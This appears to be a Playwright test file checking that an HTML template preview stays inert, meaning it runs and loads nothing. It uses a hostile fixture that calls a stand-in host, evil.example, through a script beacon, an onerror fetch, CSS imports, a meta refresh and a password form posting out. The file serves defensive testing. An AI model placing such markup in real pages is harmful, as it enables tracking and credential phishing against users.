import { fileURLToPath } from "node:url";
import type { Page } from "@playwright/test";
import { build } from "vite";
import { pageHeaders } from "../apps/host/server/page-headers.ts";
import type { fillPreview } from "../apps/host/src/templates/preview-frame.ts";
import type { Preview, previewOf } from "../apps/host/src/templates/preview.ts";
import { expect, test } from "./fixtures/test.ts";

/** Each line acts, loads or submits in a browser that shows it as it is. */
const HOSTILE = `<!doctype html>
<html><head>
  <style>@import "https://evil.example/import.css"; p { background: url(https://evil.example/style.png) }</style>
  <link rel="stylesheet" href="https://evil.example/link.css">
  <script>document.title = "ran"; new Image().src = "https://evil.example/script.png";</script>
  <meta http-equiv="refresh" content="1;url=https://evil.example/refresh">
</head><body style="color: rgb(1, 2, 3); background: url(https://evil.example/attribute.png)">
  <p>Sign in</p>
  <img src="https://evil.example/image.png" onerror="fetch('https://evil.example/handler')">
  <img src="data:image/x,broken" srcset="https://evil.example/srcset.png 1x">
  <svg><image href="https://evil.example/svg.png" width="9" height="9"/></svg>
  <iframe src="https://evil.example/frame"></iframe>
  <video poster="https://evil.example/poster.png"></video>
  <form action="https://evil.example/form"><input name="password" autofocus><button>Send</button></form>
</body></html>`;

declare global {
  interface Window {
    previewOf: typeof previewOf;
    fillPreview: typeof fillPreview;
  }
}

/** A page with this policy, and the addresses that were asked for outside of it. */
async function openPage(page: Page, headers: Readonly<Record<string, string>>): Promise<string[]> {
  const built = await build({
    configFile: false,
    logLevel: "silent",
    resolve: { conditions: ["vitrine-source", "browser", "module", "import"] },
    build: {
      write: false,
      lib: { entry: fileURLToPath(new URL("preview/main.ts", import.meta.url)), formats: ["es"] },
      rollupOptions: { output: { codeSplitting: false } },
    },
  });
  const [output] = Array.isArray(built) ? built : [built];
  const code = output !== undefined && "output" in output ? output.output[0].code : "";
  const asked: string[] = [];
  await page.route("**/*", async (route) => {
    const { hostname, pathname, href } = new URL(route.request().url());
    if (hostname !== "localhost") {
      asked.push(href);
      await route.fulfill({ status: 204 });
    } else if (pathname === "/main.js") {
      await route.fulfill({ contentType: "text/javascript", body: code });
    } else {
      const body = `<!doctype html><iframe title="Preview"></iframe><script type="module" src="/main.js"></script>`;
      await route.fulfill({ contentType: "text/html", headers, body });
    }
  });
  await page.goto("http://localhost/");
  await page.waitForFunction(() => "previewOf" in window);
  return asked;
}

/** Long enough for what a frame loads by itself to be asked for. */
async function settle(page: Page): Promise<void> {
  await page.waitForLoadState("networkidle");
  await page.waitForFunction(() => performance.now() > 3_000);
}

const STRICT = pageHeaders("http://proxy.localhost:5181");

test.describe("The inert preview of a template", () => {
  test("shows its words and styles, loads nothing, runs nothing, and says what it left out", async ({
    page,
  }) => {
    const asked = await openPage(page, STRICT);
    const { removed, blank } = await page.evaluate((html) => {
      const preview = window.previewOf(html);
      window.fillPreview(document.querySelector("iframe")!, preview);
      return { removed: preview.removed, blank: preview.blank };
    }, HOSTILE);
    const inside = page.frameLocator("iframe");
    await expect(inside.getByText("Sign in")).toBeVisible();
    await expect(inside.locator("body")).toHaveCSS("color", "rgb(1, 2, 3)");
    await settle(page);
    expect(asked).toEqual([]);
    expect(blank).toBe(false);
    const words = removed.map(({ what }) => what);
    for (const what of [
      "<script>",
      "<link>",
      "<meta>",
      "<form>",
      "<iframe>",
      "onerror",
      "srcset",
      "poster",
    ]) {
      expect(words).toContain(what);
    }
    expect(removed).toContainEqual({ what: "address in a style", count: 3 });
  });

  test("of a template that draws itself by script is blank, and says so", async ({ page }) => {
    await openPage(page, STRICT);
    const html = `<!doctype html><body><div id="root"></div><script>document.body.textContent = "x"</script>`;
    expect(await page.evaluate((text) => window.previewOf(text).blank, html)).toBe(true);
  });

  for (const [guard, show] of [
    ["with nothing taken out, by the frame's sandbox and policy alone", "frame"],
    ["in a frame without sandbox and policy, by what was taken out alone", "purifier"],
  ] as const) {
    test(`is inert ${guard}`, async ({ page }) => {
      const asked = await openPage(page, {});
      await page.evaluate(
        ({ html, by }) => {
          const frame = document.querySelector("iframe")!;
          const raw: Preview = { html, css: "", removed: [], blank: false };
          if (by === "frame") window.fillPreview(frame, raw);
          else frame.srcdoc = window.previewOf(html).html;
        },
        { html: HOSTILE, by: show },
      );
      await expect(page.frameLocator("iframe").getByText("Sign in")).toBeVisible();
      await settle(page);
      expect(asked).toEqual([]);
    });
  }

  test("runs and loads everything when every guard is off", async ({ page }) => {
    const asked = await openPage(page, {});
    await page.evaluate((html) => void (document.querySelector("iframe")!.srcdoc = html), HOSTILE);
    await settle(page);
    const paths = asked.map((href) => new URL(href).pathname);
    for (const path of [
      "/script.png",
      "/style.png",
      "/attribute.png",
      "/image.png",
      "/handler",
      "/svg.png",
    ]) {
      expect(paths).toContain(path);
    }
  });
});
